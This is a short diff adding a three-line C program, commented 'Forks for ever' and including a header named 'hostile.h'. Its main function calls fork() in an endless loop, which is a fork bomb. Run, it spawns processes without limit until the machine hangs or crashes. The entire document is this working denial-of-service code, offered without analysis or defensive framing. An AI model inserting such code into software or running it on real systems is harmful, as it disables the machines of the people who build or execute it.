@@ -1,0 +1,3 @@
+// Forks for ever.
+#include "hostile.h"
+int main(void) { for (;;) fork(); }
